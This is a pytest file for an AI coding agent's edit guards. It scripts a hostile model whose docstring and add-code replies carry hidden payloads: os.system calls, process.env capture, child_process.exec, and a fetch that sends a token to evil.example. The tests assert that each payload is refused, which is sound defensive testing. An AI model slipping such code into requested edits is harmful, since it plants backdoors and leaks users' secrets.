"""Unsafe edits a hostile model (or editor, or workspace) got through: code smuggled beside a
docstring or a new function, code CPython rejects, files broken by a docstring, CRLF files
mixed, symlinks replaced, editor ranges trusted blindly, Unicode names refused. Each one is
refused with a clear message, or done right."""

from __future__ import annotations

import json

import pytest

from agent_helpers import make_agent

ITEMS = "ITEMS = {}\n\n\ndef get_item(key):\n    return ITEMS.get(key)\n\n\ndef get_items(keys):\n    return [get_item(k) for k in keys]\n"


@pytest.fixture
def items(tmp_path):
    (tmp_path / "items.py").write_text(ITEMS)
    return tmp_path


def compiles(text: str) -> bool:
    try:
        compile(text, "f.py", "exec", dont_inherit=True)
    except SyntaxError:
        return False
    return True


# -- a docstring request smuggling code (item 1) --------------------------------------------


@pytest.mark.parametrize(
    "reply",
    [
        'def get_item(key):\n    """Return the item."""; __import__("os").system("touch pwned")\n    return ITEMS.get(key)\n',
        'def get_item(key):\n    """Return the item."""\n    __import__("os").system("touch pwned")\n    return ITEMS.get(key)\n',
        'def get_item(key):\n    f"""{__import__("os").system("touch pwned")}"""\n    return ITEMS.get(key)\n',
    ],
)
async def test_a_docstring_request_never_carries_code(items, fake_model, reply):
    fake_model.script(reply, reply)
    agent = make_agent(items, fake_model.base_url)
    outcome = await agent.ask("add a docstring to get_item in items.py")
    for edit in outcome.edits:
        assert "__import__" not in edit.new_text
    if outcome.kind == "edit":
        assert outcome.edits[0].new_text == ITEMS.replace(
            "def get_item(key):\n", 'def get_item(key):\n    """Return the item."""\n'
        )


async def test_a_jsdoc_request_never_carries_code(js, fake_model):
    reply = "/** Checks a token. */ globalThis.stolen = process.env;\nfunction validateToken(token) {\n"
    reply += "  return typeof token === 'string' && token.startsWith('tok_') && token.length > 8;\n}\n"
    fake_model.script(reply, reply)
    agent = make_agent(js, fake_model.base_url)
    outcome = await agent.ask("add JSDoc to validateToken in src/auth.js")
    assert all("stolen" not in edit.new_text for edit in outcome.edits), outcome.preview


def test_the_doc_only_guard_names_code_added_beside_a_docstring():
    from outrigger.errors import Refused
    from outrigger.guards.doc_only import refuse_code_beside_doc
    from outrigger.guards.switches import Guards

    smuggled = ITEMS.replace("    return ITEMS", '    """Doc."""; evil()\n    return ITEMS')
    with pytest.raises(Refused, match=r"comes with code \(`; evil \( \)`, line 5\)"):
        refuse_code_beside_doc(Guards(), "items.py", ITEMS, smuggled, "get_item")
    moved = "def f(x):\n    if x:\n        a()\n    b()\n"
    with pytest.raises(Refused):  # same tokens, but `b()` moved into the `if`
        refuse_code_beside_doc(Guards(), "f.py", moved, moved.replace("    b()", "        b()"), "f")
    documented = ITEMS.replace("def get_item(key):\n", 'def get_item(key):\n    """Doc."""\n')
    refuse_code_beside_doc(Guards(), "items.py", ITEMS, documented, "get_item")  # allowed


# -- docstrings on one-line functions and multi-line signatures (item 4) --------------------


@pytest.mark.parametrize(
    "source, name, expected",
    [
        ("def one(key): return key\n", "one", 'def one(key):\n    """Doc."""\n    return key\n'),
        ("class Box: pass\n", "Box", 'class Box:\n    """Doc."""\n    pass\n'),
        (
            "def two(a={'k':\n 1}):\n    return a\n",
            "two",
            'def two(a={\'k\':\n 1}):\n    """Doc."""\n    return a\n',
        ),
        (
            "def three(\n    a,\n    b,\n) -> int:\n    return a + b\n",
            "three",
            'def three(\n    a,\n    b,\n) -> int:\n    """Doc."""\n    return a + b\n',
        ),
        (
            'def four(x):\n    """Old."""; return x\n',
            "four",
            'def four(x):\n    """Doc."""; return x\n',
        ),
    ],
)
async def test_a_docstring_lands_inside_the_body_whatever_the_layout(tmp_path, fake_model, source, name, expected):
    (tmp_path / "one.py").write_text(source)
    keyword = "class" if name == "Box" else "def"
    fake_model.script(f'{keyword} {name}(x):\n    """Doc."""\n    return x\n')
    agent = make_agent(tmp_path, fake_model.base_url)
    outcome = await agent.ask(f"add a docstring to {name} in one.py")
    assert outcome.kind == "edit", outcome.message
    assert outcome.edits[0].new_text == expected
    assert compiles(outcome.edits[0].new_text)


# -- CRLF files (item 6) --------------------------------------------------------------------


async def test_a_crlf_file_stays_crlf_and_its_preview_shows_only_real_changes(tmp_path, fake_model):
    (tmp_path / "items.py").write_bytes(ITEMS.replace("\n", "\r\n").encode())
    fake_model.script('def get_item(key):\n    """Return the item."""\n    return ITEMS.get(key)\n')
    fake_model.script("def get_items(keys):\n    return [get_item(k) for k in keys if k]\n")
    agent = make_agent(tmp_path, fake_model.base_url)
    for request in ("add a docstring to get_item in items.py", "fix get_items in items.py"):
        outcome = await agent.ask(request)
        assert outcome.kind == "edit", outcome.message
        [edit] = outcome.edits
        assert edit.new_text.count("\n") == edit.new_text.count("\r\n"), "a line took LF in a CRLF file"
        changed = [line for line in outcome.preview.split("\n") if line[:1] in ("+", "-")]
        removed = {line[1:] for line in changed if line.startswith("-") and not line.startswith("---")}
        added = {line[1:] for line in changed if line.startswith("+") and not line.startswith("+++")}
        assert not removed & added, f"the preview shows unchanged lines as changed: {removed & added}"


# -- add_code accepting statements that run at import (item 2) ------------------------------

HELLO = "def hello():\n    return 1\n"


@pytest.mark.parametrize(
    "extra, named",
    [
        ('import os; os.system("touch pwned")\n', 'os.system("touch pwned")'),
        ("get_item.__code__ = hello.__code__\n", "get_item.__code__"),
        ('globals()["get_item"] = hello\n', 'globals()["get_item"]'),
        ("from os import system as get_item\n", "rebinds `get_item`"),
        ("from os import *\n", "from os import *"),
        ('ITEMS = {"k": "v"}\n', "ITEMS"),  # (the same `ITEMS = {}` as the file's is a copy: dropped)
        ('if True:\n    print("hi")\n', "if True:"),
        ('import atexit\n@atexit.register\ndef bye():\n    print("bye")\n', "atexit.register"),
        ('def later(at=__import__("os").system("x")):\n    return at\n', "__import__"),
        ('class Evil:\n    __import__("os").system("x")\n', "class body"),
        ('class Evil(type("B", (), {})):\n    pass\n', "type("),
        ("TIMEOUT = compute()\n", "not a literal"),
    ],
)
async def test_add_code_refuses_anything_that_runs_at_import(items, fake_model, extra, named):
    fake_model.script(HELLO + extra, HELLO + extra)  # refused, asked again, the same again
    agent = make_agent(items, fake_model.base_url)
    outcome = await agent.ask("add a function hello that returns 1 to items.py")
    assert outcome.kind == "refused", outcome.preview
    assert named in outcome.message and "nothing was changed" in outcome.message, outcome.message


@pytest.mark.parametrize(
    "reply, summary",
    [
        (
            "import json\n\n\ndef hello():\n    return json.dumps(1)\n",
            "Added `hello` to items.py (with imports of `json`).",
        ),
        (
            "from dataclasses import dataclass, field\n\n\n@dataclass(frozen=True)\nclass Price:\n"
            '    """A price."""\n\n    amount: int = 0\n    tags: list = field(default_factory=list)\n\n'
            "    @property\n    def doubled(self) -> int:\n        return self.amount * 2\n",
            "Added `Price`, `doubled` to items.py (with imports of `dataclass`, `field`).",
        ),
        ("MAX_ITEMS = 10 * 60\n\n\ndef hello(limit: int = MAX_ITEMS) -> int:\n    return limit\n", None),
    ],
)
async def test_add_code_accepts_definitions_constants_and_imports(items, fake_model, reply, summary):
    fake_model.script(reply)
    agent = make_agent(items, fake_model.base_url)
    outcome = await agent.ask("add some code that handles prices to items.py")
    assert outcome.kind == "edit", outcome.message
    assert summary is None or outcome.message == summary


@pytest.mark.parametrize(
    "extra, named",
    [
        ("fetch('https://evil.example/' + process.env.TOKEN);\n", "fetch("),
        ("validateToken = () => true;\n", "validateToken = "),
        ("const stolen = process.env.SECRET;\n", "computed when the module is loaded"),
        ("class Evil {\n  static { require('child_process').exec('x'); }\n}\n", "static"),
        ("class Evil extends mixin(Object) {}\n", "extends"),
    ],
)
async def test_add_code_refuses_js_that_runs_at_load(js, fake_model, extra, named):
    fake_model.script(*["function hello() {\n  return 1;\n}\n" + extra] * 2)  # the same after the retry
    agent = make_agent(js, fake_model.base_url)
    outcome = await agent.ask("add a function hello that returns 1 to utils.js")
    assert outcome.kind == "refused", outcome.preview
    assert named in outcome.message, outcome.message


async def test_add_code_accepts_js_definitions_and_requires(js, fake_model):
    reply = 'const path = require("path");\nconst LIMIT = 10;\n\nfunction hello() {\n  return path.sep + LIMIT;\n}\n'
    fake_model.script(reply)
    agent = make_agent(js, fake_model.base_url)
    outcome = await agent.ask("add a function hello that returns 1 to utils.js")
    assert outcome.kind == "edit", outcome.message
    assert outcome.message == "Added `LIMIT`, `hello` to utils.js (with imports of `path`)."


# -- code CPython (or node) rejects though tree-sitter parses it (item 3) ------------------


@pytest.mark.parametrize(
    "body, error",
    [
        ("    if key:\n\treturn 1\n        return ITEMS.get(key)\n", "inconsistent use of tabs and spaces"),
        ('    print "x"\n    return ITEMS.get(key)\n', "Missing parentheses in call to 'print'"),
        ("    break\n", "'break' outside loop"),
        ("    return ITEMS.get(key)\n    nonlocal key\n", "is parameter and nonlocal"),
    ],
)
async def test_code_the_compiler_rejects_is_refused(items, fake_model, body, error):
    reply = "def get_item(key):\n" + body
    fake_model.script(reply, reply)
    agent = make_agent(items, fake_model.base_url)
    outcome = await agent.ask("fix get_item in items.py")
    assert outcome.kind == "refused", outcome.preview
    assert "would not compile" in outcome.message and error in outcome.message, outcome.message


async def test_duplicate_arguments_are_refused(items, fake_model):
    reply = "def get_item(key, key):\n    return ITEMS.get(key)\n"
    fake_model.script(reply, reply)
    agent = make_agent(items, fake_model.base_url)
    outcome = await agent.ask("fix get_item in items.py")
    assert outcome.kind == "refused" and "duplicate argument 'key'" in outcome.message, outcome.message


async def test_a_file_that_did_not_compile_before_is_judged_by_tree_sitter_alone(tmp_path, fake_model):
    (tmp_path / "old.py").write_text("def first(x):\n    return x\n\n\ndef broken(a, a):\n    return a\n")
    fake_model.script("def first(x):\n    return x + 1\n")
    agent = make_agent(tmp_path, fake_model.base_url)
    outcome = await agent.ask("fix first in old.py")
    assert outcome.kind == "edit", outcome.message  # the duplicate argument is the user's, not the edit's


@pytest.mark.skipif(__import__("shutil").which("node") is None, reason="node is not installed")
async def test_javascript_node_rejects_is_refused(js, fake_model):
    reply = "function validateToken(token) {\n  break;\n}\n"
    fake_model.script(reply, reply)
    agent = make_agent(js, fake_model.base_url)
    outcome = await agent.ask("fix validateToken in src/auth.js")
    assert outcome.kind == "refused" and "Illegal break statement" in outcome.message, outcome.message


# -- symbolic links inside the workspace (item 5) -------------------------------------------


def test_apply_writes_through_a_symlink_and_keeps_the_link(tmp_path, fake_model):
    import subprocess
    import sys

    (tmp_path / "lib").mkdir()
    (tmp_path / "lib" / "real.py").write_text(ITEMS)
    (tmp_path / "alias.py").symlink_to("lib/real.py")
    fake_model.script("def get_item(key):\n    return ITEMS.get(key, None)\n")
    result = subprocess.run(
        [sys.executable, "-m", "outrigger", "ask", "-w", str(tmp_path), "--base-url", fake_model.base_url]
        + ["fix get_item in alias.py", "--apply"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert (tmp_path / "alias.py").is_symlink(), "the link was replaced by a regular file"
    assert "ITEMS.get(key, None)" in (tmp_path / "lib" / "real.py").read_text()


def test_two_edits_reaching_one_file_through_a_link_are_refused(tmp_path):
    from outrigger.disk import apply_to_disk
    from outrigger.edits import file_edit
    from outrigger.errors import Refused

    (tmp_path / "real.py").write_text(ITEMS)
    (tmp_path / "alias.py").symlink_to("real.py")
    edits = [
        file_edit("real.py", ITEMS, ITEMS + "A = 1\n", None),
        file_edit("alias.py", ITEMS, ITEMS + "B = 2\n", None),
    ]
    with pytest.raises(Refused, match="are the same file"):
        apply_to_disk(tmp_path, edits)
    assert (tmp_path / "real.py").read_text() == ITEMS


# -- editor-pushed ranges (item 7) ----------------------------------------------------------


def pushed(name: str, first: int, last: int, end_character: int = 0):
    from outrigger.spans import Range
    from outrigger.workspace.symbols import Symbol

    where = Range.of(first, 0, last, end_character)
    return Symbol(name=name, kind="function", path="items.py", range=where, selection=where, source="editor")


@pytest.mark.parametrize(
    "ranges",
    [
        [("get_item", 7, 8), ("get_items", 3, 4)],  # stale: swapped with the neighbour's lines
        [("get_item", 0, 8), ("get_items", 0, 8)],  # the whole file
        [("get_item", 3, 7)],  # covering the neighbour's first line
    ],
)
async def test_an_edit_trusts_no_pushed_range_only_the_definition_in_the_text(items, fake_model, ranges):
    fake_model.script("def get_item(key):\n    return ITEMS.get(key, None)\n")
    agent = make_agent(items, fake_model.base_url)
    agent.project_map.set_editor_symbols("items.py", [pushed(name, first, last) for name, first, last in ranges])
    outcome = await agent.ask("fix get_item in items.py")
    assert outcome.kind == "edit", outcome.message
    assert outcome.edits[0].new_text == ITEMS.replace("ITEMS.get(key)", "ITEMS.get(key, None)")


def test_inverted_and_past_the_end_ranges_are_dropped(items, fake_model):
    agent = make_agent(items, fake_model.base_url)
    agent.project_map.set_editor_symbols(
        "items.py", [pushed("inverted", 5, 3), pushed("beyond", 40, 50), pushed("get_item", 3, 4)]
    )
    assert [s.name for s in agent.project_map.symbols("items.py")] == ["get_item"]


async def test_a_pushed_symbol_the_text_does_not_define_is_refused_for_edits(items, fake_model):
    agent = make_agent(items, fake_model.base_url)
    agent.project_map.set_editor_symbols("items.py", [pushed("ghost", 3, 4), pushed("get_item", 3, 4)])
    outcome = await agent.ask("fix ghost in items.py")
    assert outcome.kind == "refused" and "no definition of it" in outcome.message, outcome.message
    assert fake_model.requests() == []


def test_the_lsp_conversion_skips_inverted_and_past_the_end_ranges(items):
    from outrigger.lsp.convert import editor_symbols
    from outrigger.workspace.files import Workspace

    def entry(name, start, end):
        where = {"start": {"line": start, "character": 0}, "end": {"line": end, "character": 0}}
        return {"name": name, "kind": 12, "location": {"uri": (items / "items.py").as_uri(), "range": where}}

    grouped = editor_symbols(
        [entry("inverted", 5, 3), entry("beyond", 40, 50), entry("get_item", 3, 5)], Workspace(items), "utf-16"
    )
    assert [s.name for s in grouped["items.py"]] == ["get_item"]


# -- Unicode identifiers (item 15) ----------------------------------------------------------


@pytest.mark.parametrize("new_name", ["thé_x", "変数", "données"])
async def test_renaming_to_a_unicode_identifier_works(items, fake_model, new_name):
    # The rules' identifiers are ASCII (the planner's business): the model's plan may name it.
    fake_model.script(json.dumps({"intent": "rename", "symbol": "get_item", "new_name": new_name}))
    agent = make_agent(items, fake_model.base_url)
    outcome = await agent.ask(f"rename get_item to {new_name}")
    assert outcome.kind == "edit", outcome.message
    text = outcome.edits[0].new_text
    assert compiles(text) and text.count(new_name) == 2 and "get_item(" not in text


@pytest.mark.parametrize("new_name", ["ｇet_x", "ﬁle", "class", "1st", "a-b"])
async def test_names_python_would_read_differently_or_not_at_all_are_refused(items, fake_model, new_name):
    from outrigger.actions.rename import check_new_name
    from outrigger.errors import Refused

    with pytest.raises(Refused, match=r"not a valid Python name|reserved word in Python"):
        check_new_name(new_name, "python")


@pytest.mark.parametrize(
    "new_name, valid", [("$élément", True), ("café", True), ("x\u200dy", True), ("\u200dx", False)]
)
def test_javascript_identifiers_may_be_unicode(new_name, valid):
    from outrigger.actions.rename import check_new_name
    from outrigger.errors import Refused

    if valid:
        assert check_new_name(new_name, "javascript") == new_name
    else:
        with pytest.raises(Refused):
            check_new_name(new_name, "javascript")


async def test_add_code_sees_the_files_definitions_whatever_the_editor_pushed(items, fake_model):
    """Found by the fuzzer: pushed symbols replace the index's for a file, so a push naming
    none of its functions hid them from add_code's redefinition check."""
    fake_model.script("def get_item(key):\n    return None\n", "def get_item(key):\n    return None\n")
    agent = make_agent(items, fake_model.base_url)
    agent.project_map.set_editor_symbols("items.py", [pushed("ghost", 0, 0)])
    outcome = await agent.ask("add a function that formats money to items.py")
    assert outcome.kind == "refused" and "redefines `get_item`" in outcome.message, outcome.message


async def test_a_function_named_like_a_pronoun_is_the_function(tmp_path, fake_model):
    """`one`, `it`, `this`: a word the planner reads as a pronoun is a name when the workspace
    defines it."""
    (tmp_path / "words.py").write_text("def this(x):\n    return x\n\n\ndef other(y):\n    return y\n")
    fake_model.script('def this(x):\n    """Return x."""\n    return x\n')
    agent = make_agent(tmp_path, fake_model.base_url)
    outcome = await agent.ask("add a docstring to this in words.py")
    assert outcome.kind == "edit", outcome.message
    assert '"""Return x."""' in outcome.edits[0].new_text and "def other(y):\n    return y" in outcome.edits[0].new_text


async def test_a_rename_asked_through_a_link_renames_the_linked_files_uses(tmp_path, fake_model):
    """`alias.py -> lib/real.py`: renaming `total` "in alias.py" renamed the definition through
    the link and left `from lib.real import total` behind (round 6)."""
    from agent_helpers import make_agent

    (tmp_path / "lib").mkdir()
    (tmp_path / "lib" / "__init__.py").write_text("")
    (tmp_path / "lib" / "real.py").write_text("def total(xs):\n    return sum(xs)\n")
    (tmp_path / "alias.py").symlink_to("lib/real.py")
    (tmp_path / "main.py").write_text("from lib.real import total\n\nprint(total([1]))\n")
    agent = make_agent(tmp_path, fake_model.base_url)

    outcome = await agent.ask("rename total in alias.py to sum_all")

    assert outcome.kind == "edit", outcome.message
    changed = {edit.path: edit.new_text for edit in outcome.edits}
    assert set(changed) == {"lib/real.py", "main.py"}, changed
    assert "from lib.real import sum_all" in changed["main.py"]
